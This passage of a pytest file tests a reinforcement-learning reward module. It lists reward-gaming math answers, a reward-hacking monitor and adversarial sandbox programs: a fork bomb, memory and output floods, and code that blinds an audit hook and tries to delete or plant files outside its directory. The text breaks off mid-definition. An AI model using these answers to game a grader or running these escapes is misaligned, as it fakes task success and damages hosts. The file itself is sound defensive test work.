"""Tests for rewards.py: math equivalences (true and false, with the traps), one test per adversarial program,
and the real data in ../shared/data when present (skipped otherwise).

Real-data code tests run HumanEval in full and every 4th MBPP problem (244 of 974); set GRPO_FULL_DATA=1 to run
all of MBPP (about 25 s more on 2 cores). Run: python -m pytest -q tests/test_rewards.py
"""
import contextlib
import glob
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
import data  # noqa: E402
import rewards as R  # noqa: E402

DATA = Path(__file__).resolve().parents[2] / "shared" / "data"


def fence(code: str) -> str:
    return f"Here is my solution.\n```python\n{code}\n```\n"


# ------------------------------------------------------------------------------------------------ math

MATH_CASES = [  # (completion, gold, reward)
    ("\\boxed{12 \\text{ cookies left over}}", "12", 1.0),  # 'over' is no hedge word: an answer, not a division
    ("\\boxed{5}", "5", 1), ("\\boxed{5.0}", "5", 1), ("\\boxed{5}", "50", 0), ("\\boxed{-5}", "5", 0),
    ("\\boxed{\\frac{1}{2}}", "0.5", 1), ("\\boxed{\\dfrac12}", "1/2", 1), ("\\boxed{2/4}", "\\tfrac{1}{2}", 1),
    ("\\boxed{0.33}", "\\frac13", 0), ("\\boxed{-\\frac{3}{4}}", "-0.75", 1), ("\\boxed{\\frac{3}{4}}", "-0.75", 0),
    ("\\boxed{1,000}", "1000", 1), ("\\boxed{1{,}000}", "1000", 1), ("\\boxed{1000}", "1,000", 1), ("\\boxed{1,000}", "1", 0),
    ("so \\boxed{\\$18.}", "18", 1), ("\\boxed{18 \\text{ dollars}}", "18", 1), ("\\boxed{18\\text{ cm}^2}", "18", 1),
    ("\\boxed{90^\\circ}", "90", 1), ("\\boxed{90^{\\circ}}", "90", 1), ("\\boxed{90°}", "90", 1), ("\\boxed{91^\\circ}", "90", 0),
    ("\\boxed{25\\%}", "25\\%", 1), ("\\boxed{25}", "25\\%", 1), ("\\boxed{25\\%}", "0.25", 1), ("\\boxed{0.25}", "25\\%", 0),
    ("\\boxed{\\left( 1, 2 \\right)}", "(1,2)", 1), ("\\boxed{(1,2]}", "(1,2)", 0), ("\\boxed{(2,1)}", "(1,2)", 0),
    ("\\boxed{[1, 3)}", "[1,3)", 1), ("\\boxed{(1, \\frac{1}{2})}", "(1, 0.5)", 1), ("\\boxed{3, 1, 2}", "1, 2, 3", 1),
    ("\\boxed{1, 2}", "1, 2, 3", 0), ("\\boxed{\\{1,2\\}}", "\\{2, 1\\}", 1), ("\\boxed{(1,2)}", "1, 2", 0),
    ("\\boxed{\\frac{\\sqrt{3}}{2}}", "\\sqrt3/2", 1), ("\\boxed{2\\sqrt{2}}", "\\sqrt{8}", 1), ("\\boxed{\\sqrt{2}}", "1.41421356", 0),
    ("\\boxed{x^2+2x+1}", "(x+1)^2", 1), ("\\boxed{x^2}", "x^3", 0), ("\\boxed{\\pi}", "3.14159", 0), ("\\boxed{2\\pi}", "\\pi \\cdot 2", 1),
    ("\\boxed{\\sqrt[3]{8}}", "2", 1), ("\\boxed{10^3}", "1000", 1), ("\\boxed{(-\\infty, 3]}", "(-\\infty,3]", 1),
    ("\\boxed{\\text{Monday}}", "Monday", 1), ("\\boxed{\\textbf{(C)}}", "(C)", 1), ("\\boxed{Tuesday}", "Monday", 0),
    ("\\boxed{yadnoM}", "Monday", 0), ("\\boxed{x = 5}", "5", 1), ("\\boxed{x=5}", "6", 0), ("$\\boxed{5}$.", "5", 1),
    ("\\boxed 5", "5", 1), ("\\boxed 5$ done", "5", 1), ("\\fbox{5}", "5", 1), ("\\boxed{1} no wait \\boxed{2}", "2", 1),
    ("\\boxed{1} no wait \\boxed{2}", "1", 0), ("\\boxed{\\frac{1}{\\sqrt{2}}}", "\\frac{\\sqrt2}{2}", 1),
    ("gold is a GSM8K solution: \\boxed{72}", "48 + 24 = <<48+24=72>>72\n#### 72", 1),
    ("gold is a MATH solution: \\boxed{\\frac12}", "So the answer is $\\boxed{\\frac{1}{2}}$.", 1),
    ("\\boxed{5.5}", "1\\frac{1}{2}", 0), ("\\boxed{1.5}", "1\\frac{1}{2}", 1), ("\\boxed{7}", "2\\frac{1}{3}", 0),
    ("\\boxed{3 \\frac{1}{2}}", "3.5", 1), ("\\boxed{3 \\frac{1}{2}}", "15.5", 0), ("\\boxed{-2\\frac12}", "-2.5", 1),
    ("\\boxed{2(3)}", "23", 0), ("\\boxed{1 1/2}", "5.5", 0), ("\\boxed{(12)}", "12", 1), ("\\boxed{2x\\frac{1}{2}}", "x", 1),
    ("\\boxed{12 \\text{ apples}}", "12", 1), ("\\boxed{12 apples}", "12", 1), ("\\boxed{12 apples}", "13", 0), ("\\boxed{3 times}", "3", 1),
    ("\\boxed{\\text{12 apples}}", "12", 1), ("\\boxed{2}", "2 \\text{ m}", 1), ("\\boxed{5 x}", "5x", 1),
    ("\\boxed{\\frac{}", "\\frac{", 0), ("\\boxed{?}", "?", 0), ("\\boxed{()}", "()", 0), ("\\boxed{5}", "", 0),
]


@pytest.mark.parametrize("completion,gold,expected", MATH_CASES)
def test_math_equivalence_table(completion, gold, expected):
    assert R.math_check(completion, gold)[0] == expected, R.math_check(completion, gold)


@pytest.mark.parametrize("completion", ["The answer is 5.", "\\boxed{5", "\\boxed{}", "\\boxed{  }", ""])
def test_math_no_answer(completion):
    assert R.math_check(completion, "5") == (0.0, "no_answer")


def test_math_statuses():
    assert R.math_check("\\boxed{5}", "5") == (1.0, "correct")
    assert R.math_check("\\boxed{4}", "5") == (0.0, "wrong")
    assert R.math_check("\\boxed{5}", "  ") == (0.0, "error")  # an empty gold answer is the data's fault: visible
    assert R.math_check("\\boxed{10^{10^{10}}}", "1") == (0.0, "error")  # towers are refused before sympy
    assert R.math_check("\\boxed{2^{3^{200}}}", "5") == (0.0, "error")


def test_math_sympy_time_limit_in_a_thread(monkeypatch):
    """A slow symbolic comparison must not hang training: sympy runs in a helper process with a time limit that
    works off the main thread (no signal.alarm); past it the status is 'error' and the next call starts afresh.
    (A helper that sleeps stands in for a pathological input: the known ones are refused before sympy sees them.)"""
    def restart(worker):
        monkeypatch.setattr(R, "_SYMPY_WORKER", worker)
        if R._SYMPY.proc is not None:
            R._SYMPY.proc.kill()
            R._SYMPY.proc.wait()
            R._SYMPY.proc = None
    original = R._SYMPY_WORKER
    restart(original.replace("    for line in sys.stdin:",  # the helper's body is indented (a function's source)
                             "    import time\n    for line in sys.stdin:\n        time.sleep(30 * ('q' in line))"))
    assert R.math_check("\\boxed{x+1}", "1+x") == (1.0, "correct")  # starts the helper outside the timed part
    monkeypatch.setattr(R, "SYMPY_TIMEOUT_S", 0.5)
    out = {}
    t = threading.Thread(target=lambda: out.update(r=R.math_check("\\boxed{q^3+3q^2+3q+1}", "(q+1)^3")))
    t0 = time.monotonic()
    t.start()
    t.join(30)
    assert out["r"] == (0.0, "error") and time.monotonic() - t0 < 2
    restart(original)
    assert R.math_check("\\boxed{2x}", "x+x") == (1.0, "correct")


# Issue 14: answers that used to score 1 against almost any gold, and answers that used to score 0 wrongly.
GAMED = [  # (completion, gold): none of these is equal to its gold
    ("\\boxed{\\infty}", "81"), ("\\boxed{oo}", "81"), ("\\boxed{-\\infty}", "81"), ("\\boxed{x=\\infty}", "81"),
    ("\\boxed{\\infty\\%}", "81"), ("\\boxed{1e400}", "81"), ("\\boxed{10^{400}}", "81"), ("\\boxed{2^{1024}}", "81"),
    ("\\boxed{\\exp(710)}", "81"), ("\\boxed{(-\\infty, \\infty)}", "(-\\sqrt{3}, \\sqrt{3})"), ("\\boxed{9 9}", "81"),
    ("\\boxed{(9)9}", "81"), ("\\boxed{10^{-400}}", "0"), ("\\boxed{1e-400}", "0"), ("\\boxed{2^{1024}+1}", "2^{1024}"),
    ("\\boxed{-\\infty}", "\\infty"), ("\\boxed{1/0}", "\\infty"), ("\\boxed{0/0}", "0"), ("\\boxed{nan}", "0"),
    ("\\boxed{x+1}", "x+2"), ("\\boxed{\\sqrt{x^2}}", "x"),
    # found by a red-team review: hedges were dropped like units; multi-variable answers were checked at points
    # on one line (y - x constant); powers of big powers were slow
    ("\\boxed{81 or more}", "81"), ("\\boxed{81 (or more)}", "81"), ("\\boxed{81 or eighty-two}", "81"),
    ("\\boxed{0.53}", "b-a"), ("\\boxed{y-0.53}", "x"), ("\\boxed{2y-x}", "x+1.06"), ("\\boxed{(7^{9999})^{9999}}", "81"),
    # the twenty-ninth review (math): "A%" counted for two integer golds, A and A/100, on every GSM8K problem; numbers
    # side by side or with two decimal points multiplied; Python's syntax past the math subset; infinity's arithmetic
    ("\\boxed{500\\%}", "5"), ("\\boxed{500\\%}", "5.00"), ("\\boxed{100\\%}", "1"), ("\\boxed{x\\%}", "\\frac{0}{5}"), ("\\boxed{800\\%}", "2^{3}"), ("\\boxed{400\\%}", "\\sqrt{16}"), ("\\boxed{1.000.000}", "0"), ("\\boxed{10.0.5}", "5"),
    ("\\boxed{9 (9)}", "81"), ("\\boxed{9(9)}", "81"), ("\\boxed{{9}{9}}", "81"), ("\\boxed{512.0.n(1)}", "500"),
    ("\\boxed{0x10}", "16"), ("\\boxed{0b11}", "3"), ("\\boxed{7//2}", "3"), ("\\boxed{5j*0+5}", "5"),
    ("\\boxed{E1(1+1)*0}", "0"), ("\\boxed{\\infty^0}", "1"), ("\\boxed{\\frac{1}{\\infty}}", "0"), ("\\boxed{0^{\\infty}}", "0"),
    # the twenty-second session's red-team review (math): a multiplier word after the number was dropped like a unit
    # ("5 thousand" -> 5)
    ("\\boxed{5 thousand}", "5"), ("\\boxed{12 squared}", "12"), ("\\boxed{10 dozen}", "10"), ("\\boxed{9 \\text{ twice}}", "9"),
    ("\\boxed{2 k}", "2"), ("\\boxed{3 hundred apples}", "3"), ("\\boxed{4 and a half}", "4"),
    # the twenty-fifth session's review read \, as a space unless between digits: no multiplier comes through it
    ("\\boxed{5\\,\\text{thousand}}", "5"), ("\\boxed{1\\,000}", "1"), ("\\boxed{12\\,\\text{squared}}", "12"),
    # the units branch: after a slash only a word is a unit (digits stay a division, one letter a variable), and a
    # constant or function after the number was dropped like a unit ('72 pi' scored 72)
    ("\\boxed{72/8}", "72"), ("\\boxed{72/\\text{8}}", "72"), ("\\boxed{72 \\text{ 8/8}}", "72"), ("\\boxed{72/8/\\text{hr}}", "72"),
    ("\\boxed{576/8 \\text{ km/h}}", "576"), ("\\boxed{72/x}", "72"), ("\\boxed{2}", "2/x"), ("\\boxed{72/\\text{hr or more}}", "72"),
    ("\\boxed{72 pi}", "72"), ("\\boxed{72/pi}", "72"), ("\\boxed{72/\\pi}", "72"), ("\\boxed{72/oo}", "72"),
    ("\\boxed{72 \\text{ infinity}}", "72"), ("\\boxed{72/\\text{sqrt}}", "72"), ("\\boxed{2}", "2 pi"),
    # the twenty-sixth session's red team: a constant in capitals, a number word or a constant after the slash, an
    # unlisted multiplier; '/ /' and '* *' were read as // and **; a leading zero split a number ('080' was 0 * 80)
    ("\\boxed{72 \\text{ Pi}}", "72"), ("\\boxed{72 \\text{ PI}}", "72"), ("\\boxed{72 \\text{ Thousand}}", "72"),
    ("\\boxed{72 \\text{ grand}}", "72"), ("\\boxed{144/two}", "144"), ("\\boxed{720/\\text{ten}}", "720"),
    ("\\boxed{72/\\text{tau}}", "72"), ("\\boxed{72/\\text{Sqrt}}", "72"), ("\\boxed{72 \\text{ divided by eight}}", "72"),
    ("\\boxed{145/ /2}", "72"), ("\\boxed{145/\\,/2}", "72"), ("\\boxed{2* *3}", "8"), ("\\boxed{72+080}", "72"),
    ("\\boxed{-72-084}", "-72"), ("\\boxed{1\\cdot 072}", "0"), ("\\boxed{072*2}", "0"),
]
FIXED = [  # (completion, gold): equal, and scored 0 before
    ("\\boxed{4210_5}", "4210_{5}"), ("\\boxed{\u22125}", "-5"), ("\\boxed{9}", "9 (apples)"), ("\\boxed{9 (apples)}", "9"),
    ("\\boxed{\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}}", "\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}"),
    ("\\boxed{\\infty}", "\\infty"), ("\\boxed{+\\infty}", "oo"), ("\\boxed{-oo}", "-\\infty"), ("\\boxed{10^{400}}", "1e400"),
    ("\\boxed{(-\\infty, 3]}", "(-oo, 3]"), ("\\boxed{6 \u00d7 7}", "42"), ("\\boxed{\\exp(710)}", "\\exp(710)"),
    ("\\boxed{500\\%}", "500"), ("\\boxed{50\\%}", "0.5"), ("\\boxed{1e5}", "100000"), ("\\boxed{2(x+1)}", "2x+2"),
    ("\\boxed{(a+b)(a-b)}", "a^2-b^2"), ("\\boxed{2\\frac{1}{2}}", "2.5"),  # still right after the review's fixes
    ("\\boxed{1,000 \\text{ apples}}", "1000"), ("\\boxed{12,500 people}", "12500"),  # the review's false negative
    # the twenty-fifth session's review: a unit after \, (read as nothing, so '18eggs'), a bare unit with a power,
    # \boldsymbol; \, between digits still groups them
    ("\\boxed{18\\,\\text{eggs}}", "18"), ("\\boxed{72\\,\\mathrm{m}}", "72"), ("\\boxed{1,\\!200\\,\\text{apples}}", "1200"),
    ("\\boxed{72 \\text{ m}^2}", "72"), ("\\boxed{72\\text{ m}^{3}}", "72"), ("\\boxed{\\boldsymbol{72}}", "72"),
    ("\\boxed{1\\,000\\,000}", "1000000"),
    # the units branch: a unit with a slash ('72 km/h', '\\$72/hr' scored 0 against 72)
    ("\\boxed{72 \\text{ km/h}}", "72"), ("\\boxed{72\\text{ km/h}}", "72"), ("\\boxed{\\$72/\\text{hour}}", "72"),
    ("\\boxed{\\$72/hr}", "72"), ("\\boxed{72 \\text{ km}/\\text{h}}", "72"), ("\\boxed{\\$72 / \\text{hour}}", "72"),
    ("\\boxed{72/ hour}", "72"), ("\\boxed{9.8 \\text{ m/s}^2}", "9.8"), ("\\boxed{144/2 \\text{ km/h}}", "72"),
    ("\\boxed{1,200/\\text{month}}", "1200"),
    # a leading zero is the number's own: '080' is 80 inside an expression too ('72+080' was 72, as 0 * 80)
    ("\\boxed{72+080}", "152"), ("\\boxed{2\\cdot 072}", "144"),
]


@pytest.mark.parametrize("completion,gold", GAMED)
def test_math_issue_false_positives(completion, gold):
    assert R.math_check(completion, gold)[0] == 0.0, R.math_check(completion, gold)


@pytest.mark.parametrize("completion,gold", FIXED)
def test_math_issue_false_negatives(completion, gold):
    assert R.math_check(completion, gold)[0] == 1.0, R.math_check(completion, gold)


# Answers a policy could try to score against any gold: non-finite, overflowing, empty, set-valued, symbolic, text.
DEGENERATE = ["\\infty", "-\\infty", "+\\infty", "oo", "-oo", "x=\\infty", "\\infty\\%", "\\infty^{\\infty}", "\\infty-\\infty",
              "1e400", "-1e400", "1e-400", "10^{400}", "10^{-400}", "-10^{400}", "2^{1024}", "\\exp(710)", "\\exp(-710)",
              "e^{1000}", "9^{9^{9}}", "2^2^20", "nan", "NaN", "\\text{NaN}", "zoo", "1/0", "\\frac{1}{0}", "0/0", "-1/0",
              "\\emptyset", "\\varnothing", "\\{\\}", "()", "[]", "(-\\infty, \\infty)", "[-\\infty, \\infty]",
              "(-\\infty, 0) \\cup (0, \\infty)", "\\mathbb{R}", "x", "n", "x = x", "a+b", "\\text{any real number}",
              "\\text{all}", "?", "\\pm", "\\cdots", "\\ldots", "*", "\\text{undefined}", "\\sqrt{-1}", "i", "I", "E",
              "0 \\cdot \\infty", "\\frac{\\infty}{\\infty}", "10^{-999}"]
MATH_GOLDS = ["0", "1", "-1", "81", "0.5", "\\frac{3}{4}", "-\\frac{1}{3}", "\\sqrt{3}", "2\\sqrt{2}", "\\pi", "3\\pi",
              "(-\\sqrt{3}, \\sqrt{3})", "[1, 3)", "(1, 2)", "\\{1, 2\\}", "1, 2, 3", "x^2+1", "2x", "10^{10}",
              "1.5 \\times 10^{-7}", "\\text{Monday}", "(C)", "4210_{5}", "\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}", "25\\%"]


def _golds():
    """Every built-in math gold, the hand list above, and GSM8K's when ../shared/data is present."""
    golds = set(MATH_GOLDS)
    for split in ("train", "test"):
        golds |= {p["answer"] for p in data.builtin_problems("math", split, n=300)}
        path = DATA / "gsm8k" / f"{split}.jsonl"
        if path.is_file():
            golds |= {p["answer"] for p in data.load_problems(str(path), task="math")}
    return sorted(golds)


def test_math_property_degenerate_answers_match_no_gold():
    """No degenerate answer equals any gold (thousands of golds: GSM8K train + test when present)."""
    golds = _golds()
    bad = [(c, g) for c in DEGENERATE for g in golds if R.math_check(f"\\boxed{{{c}}}", g)[0]]
    assert not bad, bad[:20]
    # juxtaposed factors never multiply: "a b" for gold a*b
    bad = [g for g in golds if re.fullmatch(r"\d{2,}", g) and int(g) % 3 == 0 and
           R.math_check(f"\\boxed{{3 {int(g) // 3}}}", g)[0]]
    assert not bad, bad[:20]


def test_the_monitor_flags_infinities_not_unit_words():
    """degenerate() (the reward-hacking monitor, not the reward) flags answers that are no finite value and leaves
    a right answer with its unit alone: "40 books" used to count as degenerate through "oo" (and "nan", "inf" in
    bananas, infants), so rewarded answers with units showed up as reward hacks in the grid's diagnostics."""
    flagged = [d for d in DEGENERATE if R.degenerate(f"\\boxed{{{d}}}", "math")]
    assert len(flagged) == 45 and {"oo", "-oo", "nan", "NaN", "zoo", "1e400", "10^{400}", "2^{1024}", "x"} <= set(flagged)
    assert R.degenerate("\\boxed{1E400}", "math") and R.degenerate("\\boxed{5\\infty}", "math")
    assert R.degenerate("\\boxed{10^{infinity}}", "math") and R.degenerate("\\boxed{2 \\cdot infinity}", "math")
    units = ["40 \\text{ books}", "5 bananas", "12 infants", "3 rooms", "20 cookies", "1 noon", "64 boots", "250 pennies",
             "7 \\text{ hours}", "\\$1000", "1,000", "10^{10}", "2.5e3"]
    assert not [u for u in units if R.degenerate(f"\\boxed{{{u}}}", "math")]
    assert R.math_check("\\boxed{40 \\text{ books}}", "40") == (1.0, "correct")


PATHOLOGICAL = [  # (completion, its reward against gold 5)
    ("\\boxed{" + " " * 100_000 + "5 units}", 1), ("\\boxed{5" + " " * 99_990 + "}", 1), ("\\boxed{" + "\\text{" * 20_000 + "5" + "}" * 20_000 + "}", 0),
    ("\\boxed{" + "1," * 50_000 + "1}", 0), ("\\boxed{" + "{" * 50_000 + "5" + "}" * 50_000 + "}", 0), ("\\boxed{" + "(" * 90 + "5" + ")" * 90 + "}", 1),
    ("\\boxed{" + "\\sqrt{" * 150 + "2" + "}" * 150 + "}", 0), ("\\boxed{" + "9" * 900 + "}", 0), ("\\boxed{" + "1^" * 400 + "1}", 0),
    ("\\boxed{1" + "0" * 99_000 + "}", 0), ("\\boxed{5}" * 10_000, 1), ("\\boxed{" * 20_000, 0), ("x" * 100_000 + "\\boxed{5}", 1),
    ("\\boxed{" + "\\frac{1}{" * 60 + "2" + "}" * 60 + "}", 0), ("\\boxed{" + "1, " * 300 + "1}", 0), ("\\boxed{(" + "x+" * 60 + "1)^{99}}", 0),
    ("\\boxed{\\sin(10^{400})}", 0), ("\\boxed{" + "5 " * 400 + "}", 0), ("\\boxed{" + "-" * 900 + "5}", 0)]


@pytest.mark.parametrize("k", range(len(PATHOLOGICAL)))
def test_math_pathological_inputs_are_fast(k):
    """Inputs of up to 100k characters are graded in well under a second each (they used to take seconds to
    minutes: quadratic regexes on whitespace, nested \\text{}, long comma lists), and never score 1 wrongly.
    CPU time of this process, so other load on the machine does not count (sympy's own limit is tested above)."""
    text, expected = PATHOLOGICAL[k]
    for gold, want in (("5", expected), ("1, 1, 1", 0), ("\\sqrt{2}", 0)):
        t0 = time.process_time()
        reward, status = R.math_check(text, gold)
        assert time.process_time() - t0 < 0.5, (k, gold, status)
        assert reward == want, (k, gold, status)
    t0 = time.process_time()
    R.final_answer(text, "math"), R.degenerate(text, "math")  # the monitor's keys too
    assert time.process_time() - t0 < 0.5


# ------------------------------------------------------------------------------------------------ code

def test_extract_code():
    assert R.extract_code("```python\na = 1\n```\ntext\n```python\nb = 2\n```") == "b = 2\n"
    assert R.extract_code("```python\na = 1\n```\n```text\nnot code\n```") == "a = 1\n"
    assert R.extract_code("```\nc = 3\n```") == "c = 3\n"
    assert R.extract_code("def f(): pass") is None
    assert R.extract_code("```python\ndef f(): pass") is None  # truncated: no closing fence
    # a fence opens only at a line's start (after spaces): an inline ```py in the prose after the solution is no block
    prose = "```python\ndef f():\n    return 1\n```\nTo test it, run ```py\nf()``` in a shell."
    assert R.extract_code(prose) == "def f():\n    return 1\n"
    # a block in a list item loses its fence's indentation (as Markdown reads it), when every line has it
    assert R.extract_code("1. The code:\n   ```python\n   def f():\n       return 1\n   ```\n") == "def f():\n    return 1\n"
    assert R.extract_code("1. The code:\n    ```python\ndef f():\n    return 1\n    ```\n") == "def f():\n    return 1\n    "
    assert R.extract_code("```python\r\ndef f(): return 1```\r\nDone.") == "def f(): return 1"  # CRLF, ``` on the line
    # a usage example or a test after the solution does not replace it: the last block defining the name given wins
    usage = "```python\ndef f():\n    return 1\n```\nExample:\n```python\nprint(f())\n```\n```python\ndef test(): f()\n```"
    assert R.extract_code(usage, "f") == "def f():\n    return 1\n" and R.extract_code(usage) == "def test(): f()\n"
    for final in ("f = lambda: 1", "f: object = lambda: 1", "from math import gcd as f", "try:\n    def f(): pass\nexcept Exception:\n    pass"):
        draft = "```python\ndef f(): return 0\n```\nBetter:\n"  # the last block binding f wins, however it binds it (symtable)
        assert R.extract_code(draft + usage.replace("def f():\n    return 1", final), "f") == final + "\n"
    assert R.extract_code(usage, "g") == R.extract_code(usage, "f(") == "def test(): f()\n"  # none defines it: the last
    prob = {"task": "code", "prompt": "", "test_code": "assert f() == 1", "entry_point": "f"}
    assert R.code_check(usage, prob) == (1.0, "pass") and R.code_check(usage, {**prob, "entry_point": None})[0] == 0
    io = {"task": "code", "prompt": "", "io_tests": [{"input": "", "output": "1"}], "entry_point": "f"}
    assert R.code_check("```python\ndef f(): return 2\n```\n```python\nprint(1)\n```", io) == (1.0, "pass")  # stdin: last
    assert R.extract_code("```python\nprint(1)\n```\n```\ndef f(): pass\n```") == "print(1)\n"  # ```python first


def test_code_pass_fail_and_statuses():
    prob = {"task": "code", "prompt": "", "test_code": "assert add(2, 3) == 5"}
    assert R.code_check(fence("def add(a, b):\n    return a + b"), prob) == (1.0, "pass")
    assert R.code_check(fence("def add(a, b):\n    return a - b"), prob) == (0.0, "fail")
    assert R.code_check(fence("def add(a, b) return"), prob) == (0.0, "fail")  # syntax error
    assert R.code_check("def add(a, b):\n    return a + b", prob) == (0.0, "no_code")
    assert R.code_check(fence("x = 1"), {"task": "code", "prompt": ""}) == (0.0, "bad_problem")  # no tests: never 1
    assert R.code_check(fence("def add(a, b):\n    return a + b"), prob)[0] == 1.0


def test_humaneval_style_check_and_setup():
    prob = {"task": "code", "prompt": "", "setup_code": "import math\ndef helper(x):\n    return x * 2\n",
            "test_code": "def check(candidate):\n    assert candidate(3) == 7\n", "entry_point": "f"}
    assert R.code_check(fence("def f(x):\n    return helper(x) + 1"), prob) == (1.0, "pass")
    assert R.code_check(fence("def f(x):\n    return helper(x)"), prob) == (0.0, "fail")
    assert R.code_check(fence("def g(x):\n    return 7"), prob) == (0.0, "fail")  # entry point missing


def test_io_tests():
    prob = {"task": "code", "prompt": "", "io_tests": [{"input": "2 3\n", "output": "5\n"}, {"input": "1 1", "output": "2"}]}
    assert R.code_check(fence("a, b = map(int, input().split())\nprint(a + b)"), prob) == (1.0, "pass")
    assert R.code_check(fence("import sys\na, b = map(int, sys.stdin.read().split())\nprint(a + b, '  ')\nsys.exit(0)"), prob) == (1.0, "pass")
    assert R.code_check(fence("a, b = map(int, input().split())\nprint(a * b)"), prob) == (0.0, "fail")
    assert R.code_check(fence("print(5)\nraise SystemExit(3)"), prob) == (0.0, "fail")  # non-zero exit


def test_grade_batch_mixed_and_order():
    math_p = {"id": "m", "task": "math", "prompt": "", "answer": "4"}
    code_p = {"id": "c", "task": "code", "prompt": "", "test_code": "assert f() == 1"}
    comps = ["\\boxed{4}", fence("def f():\n    return 1"), "\\boxed{5}", fence("def f():\n    return 2"), "no code"]
    out = R.grade(comps, [math_p, code_p, math_p, code_p, code_p], max_workers=2)
    assert out == [(1.0, "correct"), (1.0, "pass"), (0.0, "wrong"), (0.0, "fail"), (0.0, "no_code")]
    with pytest.raises(ValueError):
        R.grade(["x"], [{"task": "poetry"}])


def test_run_python_with_fds_numbered_past_1024():
    """Review finding: the nonce was read after select.select(), which raises for an fd >= 1024, so in a
    process holding many files every program scored 0 ('error'). poll() has no such limit."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < 1200:
        pytest.skip("the fd limit is below 1200")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 1200), hard))
    fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(1100)]
    try:
        assert R.run_python("print(1)", "assert 1").status == "pass"
    finally:
        for fd in fds:
            os.close(fd)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_grade_total_time_budget():
    """Programs not finished within the batch budget score 0 with status 'timeout', and grade returns on time."""
    prob = {"task": "code", "prompt": "", "test_code": "assert True", "timeout": 30}
    t0 = time.monotonic()
    out = R.grade([fence("import time\ntime.sleep(20)")] * 6, [prob] * 6, max_workers=2, total_timeout=1.0)
    assert out == [(0.0, "timeout")] * 6 and time.monotonic() - t0 < 5
    deadline = time.monotonic() + 3  # killed process groups take a moment to disappear on a loaded machine
    while _sandbox_procs() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _sandbox_procs()


def test_strays_are_found_by_the_work_dir_on_the_command_line():
    """The checks that no process outlives its run look for the work dir on command lines: a running sandbox must
    be found by them (the twentieth review saw them find none once the job went to an fd)."""
    t = threading.Thread(target=R.run_python, args=("import time\ntime.sleep(3)",), kwargs={"stdin": "", "timeout": 4})
    t.start()
    deadline, seen = time.monotonic() + 3, []
    while not seen and time.monotonic() < deadline:
        seen = _sandbox_procs()
        time.sleep(0.05)
    t.join()
    assert seen


# ------------------------------------------------------------------------------------ adversarial programs

@pytest.fixture(autouse=True)
def own_workdirs(monkeypatch):
    """Other processes on the machine may run sandboxes at the same time: count only ours."""
    monkeypatch.setattr(R, "WORKDIR_PREFIX", f"grpo-sbx-test{os.getpid()}-")


@pytest.fixture
def hook_only(monkeypatch):
    """The audit hook alone, without the run's own root (as on a machine without root or namespaces): the escapes
    these tests try must fail at the hook, not only at the root, which would hide a hook rule's loss (mutants)."""
    monkeypatch.setattr(R, "_own_root", lambda *python: "")


def _sandbox_procs() -> list[int]:
    """Live processes started by this test session's sandboxes (their command line holds the work dir; the
    harness's since the job went to an fd: the twentieth review saw this find none)."""
    pids = []
    for d in os.listdir("/proc"):
        try:
            cmd = Path(f"/proc/{d}/cmdline").read_bytes()
            state = Path(f"/proc/{d}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if d.isdigit() and R.WORKDIR_PREFIX.encode() in cmd and state != "Z":
            pids.append(int(d))
    return pids


def run_adversary(solution: str, tests: str, timeout: float = 1.0) -> tuple[float, str]:
    """Run one adversarial program; assert it scored 0, left no process behind and the checker still works."""
    reward, status = R.code_check(fence(solution), {"task": "code", "prompt": "", "test_code": tests, "timeout": timeout})
    assert reward == 0.0, status
    deadline = time.monotonic() + 3
    while _sandbox_procs() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _sandbox_procs(), "a sandboxed process outlived its run"
    assert R.code_check(fence("x = 1"), {"task": "code", "prompt": "", "test_code": "assert x == 1"}) == (1.0, "pass")
    return reward, status


def test_adversary_infinite_loop():
    t0 = time.monotonic()
    assert run_adversary("while True:\n    pass", "assert True")[1] == "timeout"
    assert time.monotonic() - t0 < 6


def test_adversary_sleep_past_timeout():
    t0 = time.monotonic()
    assert run_adversary("import time\ntime.sleep(60)", "assert True")[1] == "timeout"
    assert time.monotonic() - t0 < 6


def test_adversary_fork_bomb():
    """Processes and threads are refused (RLIMIT_NPROC, audit hook); the tests pass only if one was started."""
    run_adversary("import os, subprocess, threading, time\nstarted = 0\nfor _ in range(100):\n"
                  "    for spawn in (os.fork, lambda: subprocess.Popen(['sleep', '60']),\n"
                  "                  lambda: threading.Thread(target=time.sleep, args=(60,)).start()):\n"
                  "        try:\n            spawn()\n            started += 1\n        except Exception:\n            pass",
                  "assert started > 0")


def test_adversary_allocate_8gb():
    run_adversary("try:\n    x = bytearray(8 << 30)\n    ok = True\nexcept MemoryError:\n    ok = False", "assert ok")


def test_adversary_print_100mb():
    t0 = time.monotonic()
    run_adversary("print('x' * (100 << 20))\ndef f():\n    return 1", "assert f() == 1", timeout=5)
    assert time.monotonic() - t0 < 10


def test_adversary_files_outside_its_directory(tmp_path):
    victim, planted = tmp_path / "victim.txt", tmp_path / "planted.txt"
    victim.write_text("keep me")
    loose = Path("/tmp") / f"grpo-planted-{secrets.token_hex(4)}"  # /tmp is world-writable
    # it first blinds the builtins a naive audit hook would call (isinstance, any), then tries five ways out
    run_adversary(f"import builtins, os, shutil\nbuiltins.isinstance = builtins.any = lambda *a: False\ndone = 0\n"
                  f"for act in (lambda: os.remove({str(victim)!r}), lambda: open({str(planted)!r}, 'w').write('x'),\n"
                  f"            lambda: open({str(loose)!r}, 'w').write('x'), lambda: shutil.rmtree({str(tmp_path)!r}),\n"
                  f"            lambda: os.rename({str(victim)!r}, 'stolen.txt')):\n"
                  f"    try:\n        act()\n        done += 1\n    except Exception:\n        pass", "assert done > 0")
    assert victim.read_text() == "keep me" and not planted.exists() and not loose.exists()


PATCHED_PATH_CHECKS = """
import os, posixpath
done = []
class Sneaky(str):  # a str subclass whose methods lie to a check written in Python
    startswith = split = lambda self, *a: True
